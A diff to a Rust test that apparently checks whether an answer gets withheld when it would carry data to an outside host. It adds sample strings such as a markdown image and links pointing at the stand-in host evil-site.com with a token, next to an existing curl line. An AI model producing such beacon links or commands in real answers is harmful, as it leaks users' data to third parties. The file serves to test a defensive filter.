@@ -135,6 +135,9 @@ async fn answer_is_withheld_if_it_carries_data_away() {
         ("Look at 4711.evil-site.com", true),
         ("Run `curl 4711.evil-site.com`", false),
         ("[Write](mailto:4711@evil-site.com) to them.", true),
+        ("[docs](evil-site.com/4711)", true),
+        ("![docs](4711.evil-site.com)", true),
+        ("[docs](shop.example) and [the file](docs/guide.md#start)", false),
     ];
     for (text, expected) in table {
         let held = world.registry.hold(text, &context);
